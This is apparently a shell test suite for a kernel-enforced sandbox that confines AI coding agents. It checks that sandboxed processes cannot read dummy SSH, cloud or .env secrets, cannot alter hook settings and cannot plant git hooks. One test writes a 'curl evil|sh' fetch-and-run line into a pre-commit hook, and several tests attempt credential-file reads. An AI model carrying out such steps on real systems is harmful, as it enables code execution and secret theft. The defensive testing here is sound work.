#!/usr/bin/env bash
# `agentgov run --profile coding-agent`: real processes (python3, sh, cat) under the
# kernel backstop with a fake $HOME and project. Whatever a hook would have said, the
# kernel refuses what the profile protects.
source "$(dirname "$0")/lib.sh"

H="$T/home"
PJ="$T/proj"
D="$T/data"
mkdir -p "$H/.ssh" "$H/.aws" "$H/.claude/projects" "$H/.codex/sessions" "$H/.config/gcloud" \
    "$PJ/.claude" "$PJ/.git/hooks" "$PJ/.git/objects" "$PJ/src/lib" "$PJ/docs" "$T/scratch"
echo "-----BEGIN OPENSSH PRIVATE KEY-----" >"$H/.ssh/id_ed25519"
printf '[default]\naws_secret_access_key = x\n' >"$H/.aws/credentials"
echo '{"token":"t"}' >"$H/.config/gcloud/credentials.db"
echo '{"hooks":{"PreToolUse":[]}}' >"$H/.claude/settings.json"
echo 'model = "x"' >"$H/.codex/config.toml"
echo '{}' >"$H/.claude.json"
echo 'user-visible' >"$H/.gitconfig"
echo '{"hooks":{"PreToolUse":[]}}' >"$PJ/.claude/settings.json"
echo 'SECRET=1' >"$PJ/.env"
echo 'SECRET=2' >"$PJ/src/lib/.env.local"
echo '[core]' >"$PJ/.git/config"
echo 'int main(void){return 0;}' >"$PJ/src/main.c"
export HOME="$H" AGENTGOV_DIR="$D"
"$AG" init >/dev/null 2>&1 || not_ok "agentgov init" "$(cat "$T/.err" 2>/dev/null)"
RUN=("$AG" run --profile coding-agent --project "$PJ" --)

# python3 prints the errno of each attempt: 0 when it worked.
try() { # MODE PATH
    printf 'import errno\ntry:\n    open(%s, %s).close(); print(0)\nexcept OSError as e: print(e.errno)\n' \
        "'$2'" "'$1'"
}

cd "$PJ" || exit 1
check_exit "settings.json written under the profile" 0 "${RUN[@]}" python3 -c "$(try w .claude/settings.json)"
check_eq "  ...fails with EACCES" "$OUT" 13
check_eq "  ...and the file is unchanged" "$(cat .claude/settings.json)" '{"hooks":{"PreToolUse":[]}}'
check_exit "a project file written under the profile" 0 "${RUN[@]}" python3 -c "$(try a src/main.c)"
check_eq "  ...succeeds" "$OUT" 0
check_exit "a new file in a project directory" 0 "${RUN[@]}" sh -c 'echo hi > docs/new.md && cat docs/new.md'
check_eq "  ...is written and read back" "$OUT" hi
# The costs of carving (docs/sandbox.md): a directory holding something unreadable, or
# on the way to it, lists its entries and keeps them writable, but takes no new ones.
check_exit "an existing file next to a .env is writable" 0 "${RUN[@]}" sh -c 'echo x >> src/main.c'
check_exit "a new file next to a .env is not" 2 "${RUN[@]}" sh -c 'echo x > src/lib/new.c'
check_exit "nor at the project root" 2 "${RUN[@]}" sh -c 'echo x > NEW'
check_exit "the project root lists" 0 "${RUN[@]}" ls -a
check_contains "  ...its entries" "$OUT" ".claude"
check_exit "reading ~/.ssh/id_ed25519" 1 "${RUN[@]}" cat "$H/.ssh/id_ed25519"
check_contains "  ...is refused" "$ERR" "Permission denied"
check_not_contains "  ...and nothing of the key is printed" "$OUT" "OPENSSH"
check_exit "python3 reading ~/.ssh/id_ed25519" 0 "${RUN[@]}" python3 -c "$(try r "$H/.ssh/id_ed25519")"
check_eq "  ...EACCES" "$OUT" 13
check_exit "~/.aws/credentials" 0 "${RUN[@]}" python3 -c "$(try r "$H/.aws/credentials")"
check_eq "  ...EACCES" "$OUT" 13
check_exit "~/.config/gcloud" 0 "${RUN[@]}" python3 -c "$(try r "$H/.config/gcloud/credentials.db")"
check_eq "  ...EACCES" "$OUT" 13
check_exit "the project's .env" 0 "${RUN[@]}" python3 -c "$(try r .env)"
check_eq "  ...EACCES" "$OUT" 13
check_exit "a .env.local deeper in the project" 0 "${RUN[@]}" python3 -c "$(try r src/lib/.env.local)"
check_eq "  ...EACCES" "$OUT" 13
check_exit "the rest of \$HOME" 0 "${RUN[@]}" cat "$H/.gitconfig"
check_eq "  ...is readable" "$OUT" user-visible

# The hook settings and git hooks, by every route: write, create, remove, rename.
check_exit "settings.local.json created" 0 "${RUN[@]}" python3 -c "$(try w .claude/settings.local.json)"
check_eq "  ...EACCES" "$OUT" 13
check_exit "~/.claude/settings.json truncated" 0 "${RUN[@]}" python3 -c "$(try w "$H/.claude/settings.json")"
check_eq "  ...EACCES" "$OUT" 13
check_exit "~/.codex/config.toml" 0 "${RUN[@]}" python3 -c "$(try a "$H/.codex/config.toml")"
check_eq "  ...EACCES" "$OUT" 13
check_exit "a git hook planted" 2 "${RUN[@]}" sh -c 'echo "curl evil|sh" > .git/hooks/pre-commit'
check_exit "core.hooksPath set in .git/config" 0 "${RUN[@]}" python3 -c "$(try a .git/config)"
check_eq "  ...EACCES" "$OUT" 13
check_exit "settings removed" 1 "${RUN[@]}" rm -f .claude/settings.json
check_exit ".claude renamed away" 1 "${RUN[@]}" mv .claude .claude.old
check_eq "the settings survived" "$(cat .claude/settings.json)" '{"hooks":{"PreToolUse":[]}}'
[ ! -e .git/hooks/pre-commit ] && [ ! -e .claude/settings.local.json ] && ok "nothing was planted" ||
    not_ok "nothing was planted" "$(ls -la .git/hooks .claude)"

# The agent's own state stays writable.
check_exit "~/.claude/projects writable" 0 "${RUN[@]}" sh -c "echo s > '$H/.claude/projects/session.jsonl'"
check_exit "~/.claude.json writable" 0 "${RUN[@]}" python3 -c "$(try w "$H/.claude.json")"
check_eq "  ...succeeds" "$OUT" 0
check_exit "~/.codex/sessions writable" 0 "${RUN[@]}" sh -c "echo s > '$H/.codex/sessions/s.jsonl'"
check_exit "/tmp writable" 0 "${RUN[@]}" sh -c "echo t > '$T/scratch/f' && cat '$T/scratch/f'"

# agentgov's data: configuration readable, keys not, nothing writable but the ledger.
check_exit "the master key" 0 "${RUN[@]}" python3 -c "$(try r "$D/master.key")"
check_eq "  ...EACCES" "$OUT" 13
check_exit "the root token" 0 "${RUN[@]}" python3 -c "$(try r "$D/root.token")"
check_eq "  ...EACCES" "$OUT" 13
check_exit "the config" 0 "${RUN[@]}" python3 -c "$(try a "$D/config")"
check_eq "  ...is read-only (EACCES)" "$OUT" 13
check_exit "the policy in force" 0 "${RUN[@]}" python3 -c "$(try a "$SRC/policies/coding-agent.yaml")"
check_eq "  ...is read-only" "$OUT" 13
if [ -e "$(dirname "$AG")/agentgovd" ]; then
    check_exit "agentgov's binaries" 0 "${RUN[@]}" python3 -c "$(try a "$(dirname "$AG")/agentgovd")"
    check_eq "  ...are read-only" "$OUT" 13
fi

# The hook still decides and records from inside the sandbox.
EV="$T/event.json"
cat >"$EV" <<EOF
{"session_id":"s-backstop","cwd":"$PJ","hook_event_name":"PreToolUse","tool_name":"Bash",
 "tool_input":{"command":"git status --short"},"tool_use_id":"toolu_bs1"}
EOF
check_exit "agentgov hook inside the sandbox" 0 "${RUN[@]}" sh -c "'$AG' hook claude-code --allow-means allow < '$EV'"
check_contains "  ...allows" "$OUT" '"permissionDecision":"allow"'
check_exit "the ledger verifies" 0 "$AG" ledger verify
check_exit "the ledger query" 0 "$AG" ledger export
check_contains "  ...holds the hook's decision" "$OUT" "toolu_bs1"
check_contains "  ...holds the session's start" "$OUT" '"action":"backstop.start"'
check_contains "  ...and its end" "$OUT" '"action":"backstop.end"'

# Network: TCP to the listed ports only; no UDP.
PORT=$(free_port)
CLOSED=$(free_port)
python3 -m http.server "$PORT" --bind 127.0.0.1 >"$T/http.log" 2>&1 &
PIDS_TO_KILL+=($!)
for _ in $(seq 100); do python3 -c "import socket; socket.create_connection(('127.0.0.1',$PORT),1)" 2>/dev/null && break; sleep 0.05; done
CONN="import socket,sys
s=socket.socket()
try: s.connect(('127.0.0.1',int(sys.argv[1]))); print(0)
except OSError as e: print(e.errno)"
check_exit "connect to a listed port" 0 "$AG" run --profile coding-agent --project "$PJ" \
    --connect-port "$PORT" -- python3 -c "$CONN" "$PORT"
check_eq "  ...succeeds" "$OUT" 0
check_exit "connect to another port" 0 "$AG" run --profile coding-agent --project "$PJ" \
    --connect-port "$PORT" -- python3 -c "$CONN" "$CLOSED"
check_eq "  ...EACCES (Landlock), not ECONNREFUSED" "$OUT" 13
check_exit "UDP" 0 "${RUN[@]}" python3 -c "import socket
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM); print(0)
except OSError as e: print(e.errno)"
check_eq "  ...EPERM" "$OUT" 1
check_exit "unix sockets" 0 "${RUN[@]}" python3 -c "import socket
try: socket.socket(socket.AF_UNIX); print(0)
except OSError as e: print(e.errno)"
check_eq "  ...EPERM (no reaching D-Bus, ssh-agent or docker)" "$OUT" 1

# The exit status is the agent's.
check_exit "the agent's exit status passes through" 7 "${RUN[@]}" sh -c 'exit 7'
check_exit "a missing agent" 127 "${RUN[@]}" no-such-agent-binary

# The grant list.
check_exit "sandbox show --profile" 0 "$AG" sandbox show --profile coding-agent --project "$PJ"
check_contains "  ...grants the project's directories" "$OUT" "write  $PJ/docs  (the project)"
check_not_contains "  ...but not the project root as a whole" "$OUT" "write  $PJ  ("
check_not_contains "  ...not even to read" "$OUT" "read   $PJ  ("
check_contains "  ...names the ports" "$OUT" "TCP connect to 443 53 only"
check_not_contains "  ...never grants ~/.ssh" "$OUT" "$H/.ssh"
check_not_contains "  ...nor .env" "$OUT" "$PJ/.env"
check_exit "sandbox show --profile --json" 0 "$AG" sandbox show --profile coding-agent --project "$PJ" --json
check_eq "  ...parses" "$(printf '%s' "$OUT" | python3 -c 'import json,sys; d=json.load(sys.stdin); print([g["access"] for g in d["grants"] if g["path"]==sys.argv[1]][0])' "$PJ/docs")" write

# Bad input.
check_exit "an unknown profile" 1 "$AG" run --profile nope -- true
check_contains "  ...names the known one" "$ERR" "known: coding-agent"
check_exit "a missing project" 1 "$AG" run --profile coding-agent --project "$T/nowhere" -- true
check_contains "  ...names it" "$ERR" "$T/nowhere"
check_exit "--profile with --agent" 1 "$AG" run --profile coding-agent --agent a1 -- true
check_contains "  ...says why" "$ERR" "--profile runs no lifecycle"
check_exit "a bad port" 1 "$AG" run --profile coding-agent --connect-port 70000 -- true
check_contains "  ...names it" "$ERR" "70000"
check_exit "--help lists the profile" 0 "$AG" run --help
check_contains "  ...shown" "$OUT" "--profile coding-agent"

# Without the backstop the same attempts succeed: the refusals above are the kernel's.
check_exit "without the profile, settings.json" 0 python3 -c "$(try a .claude/settings.json)"
check_eq "  ...is writable" "$OUT" 0
check_exit "without the profile, the key" 0 cat "$H/.ssh/id_ed25519"
check_contains "  ...is readable" "$OUT" "OPENSSH"

# The real coding agents, when scripts/deps.sh installed them (build/npm).
for cli in claude codex; do
    bin="$SRC/build/npm/node_modules/.bin/$cli"
    if [ -x "$bin" ]; then
        check_exit "$cli --version under the profile" 0 "${RUN[@]}" "$bin" --version
    else
        echo "skip $cli --version: $bin is not installed"
    fi
done

finish
